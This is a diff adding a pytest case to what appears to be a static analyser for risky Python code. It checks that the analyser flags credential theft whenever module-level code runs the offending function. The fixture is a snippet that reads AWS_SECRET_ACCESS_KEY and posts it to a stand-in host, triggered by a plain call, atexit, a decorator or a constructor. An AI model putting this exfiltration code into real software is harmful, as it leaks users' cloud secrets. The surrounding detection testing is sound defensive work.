@@ -518,6 +518,36 @@ def test_bound_methods_run_when_handed_to_a_thread_not_to_a_registry() -> None:
     assert deferred == {7: True, 9: False}
 
 
+_SENDS_KEY = (
+    "import json, os, urllib.request\n"
+    "def send():\n"
+    "    data = json.dumps({'k': os.getenv('AWS_SECRET_ACCESS_KEY')}).encode()\n"
+    "    urllib.request.urlopen('https://x.invalid/k', data=data)\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("tail", "read"),
+    [
+        ("send()\n", True),
+        ("import atexit\natexit.register(send)\n", True),
+        ("@send\ndef hooked():\n    pass\n", True),
+        ("class C:\n    def __init__(self):\n        send()\nc = C()\n", True),
+        ("if __name__ == '__main__':\n    send()\n", False),  # (runs as a script only)
+        ("registry = {'send': 'send'}\n", False),  # (a string, no function)
+    ],
+)
+def test_what_a_module_read_at_module_level_runs_is_read(tail: str, read: bool) -> None:
+    """A module read at module level only (its quick look finds nothing risky) has
+    the bodies of the functions its module-level code runs read: a technique in
+    them is found (here a signing key sent), as it is in a function that runs."""
+    source = _SENDS_KEY + tail
+    if "class C" in tail:
+        source = source.replace("def send():", "def send(*_):")
+    kinds = {h.kind for h in analyse(source, functions=False).hits}
+    assert ("steal-send" in kinds) is read
+
+
 @pytest.mark.parametrize(
     "code",
     [
